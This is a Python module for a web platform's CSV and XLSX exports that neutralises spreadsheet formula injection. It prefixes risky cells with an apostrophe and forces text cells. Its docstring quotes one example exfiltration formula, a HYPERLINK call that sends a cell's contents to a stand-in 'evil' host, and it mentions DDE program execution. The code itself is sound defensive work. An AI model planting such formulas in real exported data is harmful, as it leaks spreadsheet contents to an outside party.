"""CSV meant to be opened in a spreadsheet: a cell that would start a formula stays text.

Lead titles, partner names, notification fields and the like come from the public (a lead's title
is whatever a visitor typed into a site's form). Excel, LibreOffice and Google Sheets evaluate a
cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and some also after a leading tab
or carriage return: ``=HYPERLINK("https://evil/?"&A1, "…")`` carries the sheet away, DDE runs a
program. Following OWASP's "CSV injection" advice, such a cell gets a leading apostrophe, which
every spreadsheet shows as text and nothing evaluates. Every CSV export of the platform writes its
rows through `SpreadsheetSafeWriter`, so no export can forget it; every XLSX export through
`SpreadsheetSafeXlsx`, which stores text as text and keeps the same cells from being formulas.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any, BinaryIO, Protocol

from django.utils import timezone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A plain decimal number ("-5", "-1500.00") is never a formula: it stays a number in the sheet, so
# numeric columns keep their meaning. "-1+2" or "-A1" are not plain numbers and are neutralised.
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
NEUTRALISER = "'"


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def spreadsheet_cell(value: object) -> str:
    """``value`` as CSV text a spreadsheet shows as is (``None`` is the empty cell)."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return NEUTRALISER + text
    return text


class SpreadsheetSafeWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_cell` first."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


# --- XLSX ---------------------------------------------------------------------------------------

MONEY_FORMAT = "#,##0.00"
DATETIME_FORMAT = "dd.mm.yyyy hh:mm"
DATE_FORMAT = "dd.mm.yyyy"


class Money(Decimal):
    """A Decimal the XLSX writer stores as a number shown with two places (kopecks)."""


class SpreadsheetSafeXlsx:
    """An XLSX workbook of one sheet, written row by row in openpyxl's write-only mode (rows go to
    a temporary file as they come, so memory does not grow with the export), with each value typed:

    - text is stored as text (a string cell, never a formula, whatever it starts with), and a
      formula-like one also carries Excel's quote prefix, so editing the cell keeps it text;
      characters XML cannot hold (control characters a visitor may type) are dropped;
    - int, float and Decimal are numbers; `Money` is a number with two places;
    - an aware datetime is written in the current time zone (Excel has none), a date as a date;
    - bool as TRUE/FALSE; None as the empty cell.
    """

    def __init__(self, *, title: str) -> None:
        # local: heavy, loaded only when an XLSX is built
        from openpyxl import Workbook

        self._book = Workbook(write_only=True)
        # A sheet title may hold at most 31 characters and none of []:*?/\ .
        self._sheet = self._book.create_sheet(title=re.sub(r"[\[\]:*?/\\]", " ", title)[:31])

    def _cell(self, value: object) -> Any:
        # local: heavy, loaded only when an XLSX is built
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        if value is None or isinstance(value, bool | int | float):
            return value
        if isinstance(value, Money):
            cell = WriteOnlyCell(self._sheet, value=Decimal(value).quantize(Decimal("0.01")))
            cell.number_format = MONEY_FORMAT
            return cell
        if isinstance(value, Decimal):
            return value
        if isinstance(value, datetime):
            if value.tzinfo is not None:
                value = timezone.localtime(value).replace(tzinfo=None)
            cell = WriteOnlyCell(self._sheet, value=value)
            cell.number_format = DATETIME_FORMAT
            return cell
        if isinstance(value, date):
            cell = WriteOnlyCell(self._sheet, value=value)
            cell.number_format = DATE_FORMAT
            return cell
        text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        cell = WriteOnlyCell(self._sheet, value=text)
        cell.data_type = "s"  # openpyxl would make a formula of a string starting with "="
        if text.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
        return cell

    def writerow(self, row: Iterable[object]) -> None:
        self._sheet.append([self._cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)

    def save(self, out: BinaryIO) -> None:
        """Write the workbook (a zip) to a binary file; the writer cannot be used afterwards."""
        self._book.save(out)
